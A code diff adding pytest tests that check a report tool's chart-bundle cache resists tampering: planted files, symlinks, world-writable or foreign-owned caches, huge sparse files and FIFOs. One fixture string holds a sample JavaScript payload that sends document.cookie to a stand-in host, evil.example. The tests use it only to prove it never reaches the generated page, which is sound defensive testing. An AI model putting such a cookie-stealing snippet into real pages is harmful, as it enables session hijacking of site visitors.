@@ -220,3 +220,141 @@ def test_a_fifo_as_output_is_refused_not_waited_on(tmp_path):
                           timeout=120, env=env)
     assert done.returncode == 2 and done.stderr.count("\n") == 1
     assert "not a regular file (a FIFO)" in done.stderr
+
+
+# --- the chart-bundle cache cannot be planted or damaged ----------------------------------------
+
+FAKE = "window.vegaEmbed = function () {};\n" + "// the bundle's body\n" * 2000
+EVIL = "window.vegaEmbed = function () { fetch('https://evil.example/' + document.cookie) };"
+
+
+@pytest.fixture
+def cache(tmp_path, monkeypatch):
+    """An empty cache folder and a fast stand-in for vl-convert's build, counting its calls."""
+    from leaderboard.report.vega import embed
+
+    folder = tmp_path / "cache"
+    monkeypatch.setenv("LEADERBOARD_CACHE_DIR", str(folder))
+    calls = []
+    monkeypatch.setattr(embed, "_build_bundle", lambda: calls.append(1) or FAKE)
+    return folder, embed, calls
+
+
+def _plant(path: Path, text: str) -> None:
+    """``text`` and the hash an attacker would compute for it, as the cache records it."""
+    from leaderboard.report.vega.bundle_cache import _digest
+
+    data = text.encode("utf-8")
+    path.write_bytes(data)
+    Path(str(path) + ".sha256").write_bytes(_digest(data).encode())
+
+
+def test_the_cache_is_read_back_only_when_whole_and_recorded(cache):
+    folder, embed, calls = cache
+    assert embed._cached_bundle() == FAKE and calls == [1]
+    path = embed._cache_file()
+    assert embed._cached_bundle() == FAKE and calls == [1]        # read, not rebuilt
+    path.write_bytes(FAKE.encode()[:1000])                        # truncated
+    assert embed._cached_bundle() == FAKE and len(calls) == 2
+    damaged = bytearray(FAKE.encode())
+    damaged[50] ^= 1                                              # one bit flipped
+    path.write_bytes(bytes(damaged))
+    assert embed._cached_bundle() == FAKE and len(calls) == 3
+    assert path.read_text(encoding="utf-8") == FAKE               # rewritten whole
+    Path(str(path) + ".sha256").unlink()                          # no record: not trusted
+    assert embed._cached_bundle() == FAKE and len(calls) == 4
+
+
+def test_a_symlink_planted_in_the_cache_is_never_followed(cache, tmp_path):
+    folder, embed, calls = cache
+    embed._cached_bundle()
+    path = embed._cache_file()
+    evil = tmp_path / "evil.js"
+    _plant(evil, EVIL)
+    path.unlink()
+    path.symlink_to(evil)
+    assert embed._cached_bundle() == FAKE and len(calls) == 2     # not the attacker's script
+    assert evil.read_text(encoding="utf-8") == EVIL               # nothing written through it
+    assert not path.is_symlink() and path.read_text(encoding="utf-8") == FAKE
+    victim = tmp_path / "victim.txt"                              # a partial file as a link
+    victim.write_text("keep me", encoding="utf-8")
+    os.chmod(victim, 0o644)
+    for name in (f"{path.name}.{os.getpid()}.partial", f"{path.name}.sha256"):
+        (folder / name).unlink(missing_ok=True)
+        (folder / name).symlink_to(victim)
+    path.write_text("damaged", encoding="utf-8")
+    assert embed._cached_bundle() == FAKE
+    assert victim.read_text(encoding="utf-8") == "keep me"
+    assert oct(victim.stat().st_mode & 0o777) == oct(0o644)
+
+
+def test_a_cache_folder_others_can_write_or_a_linked_folder_is_not_used(cache, tmp_path):
+    folder, embed, calls = cache
+    embed._cached_bundle()
+    path = embed._cache_file()
+    _plant(path, EVIL)                 # a whole, recorded file... in a folder others can write
+    os.chmod(folder, 0o777)
+    assert embed._cached_bundle() == FAKE and path.read_text(encoding="utf-8") == EVIL
+    os.chmod(folder, 0o700)
+    elsewhere = tmp_path / "elsewhere"
+    folder.rename(elsewhere)
+    folder.symlink_to(elsewhere)       # the folder itself a link
+    assert embed._cached_bundle() == FAKE and (elsewhere / path.name).read_text() == EVIL
+
+
+@pytest.mark.skipif(os.getuid() != 0, reason="giving a file to another user needs root")
+def test_a_cache_file_owned_by_another_user_is_not_used(cache):
+    folder, embed, calls = cache
+    embed._cached_bundle()
+    path = embed._cache_file()
+    _plant(path, EVIL)
+    os.chown(path, 65534, -1)
+    assert embed._cached_bundle() == FAKE
+
+
+def test_a_huge_sparse_file_or_a_fifo_in_the_cache_is_not_read(cache):
+    import threading
+    import time
+    import tracemalloc
+
+    folder, embed, calls = cache
+    embed._cached_bundle()
+    path = embed._cache_file()
+    with open(path, "wb") as out:
+        out.truncate(64 << 30)                                  # 64 GiB, sparse
+    record = Path(str(path) + ".sha256")
+    record.write_text(f"sha256 {'0' * 64} {64 << 30}\n", encoding="utf-8")
+    tracemalloc.start()
+    started = time.perf_counter()
+    assert embed._cached_bundle() == FAKE
+    elapsed = time.perf_counter() - started
+    peak = tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
+    assert elapsed < 5 and peak < 50 << 20
+    path.unlink()
+    os.mkfifo(path)
+    outcome = []
+    worker = threading.Thread(target=lambda: outcome.append(embed._cached_bundle()),
+                              daemon=True)
+    worker.start()
+    worker.join(timeout=30)
+    assert not worker.is_alive() and outcome == [FAKE]         # not blocked on the FIFO
+
+
+def test_a_page_never_inlines_a_planted_bundle(tmp_path, monkeypatch):
+    from leaderboard.report.vega import embed
+
+    folder = tmp_path / "cache"
+    monkeypatch.setenv("LEADERBOARD_CACHE_DIR", str(folder))
+    embed.bundle.cache_clear()
+    folder.mkdir(mode=0o700)
+    evil = tmp_path / "evil.js"
+    _plant(evil, EVIL)
+    embed._cache_file().symlink_to(evil)
+    try:
+        assert main(["analyze", "--example", "--draws", "200", "--replicates", "200", "--quiet",
+                     "-o", str(tmp_path / "r.html")]) == 0
+    finally:
+        embed.bundle.cache_clear()
+    html = (tmp_path / "r.html").read_text(encoding="utf-8")
+    assert "evil.example" not in html and "vegaEmbed" in html
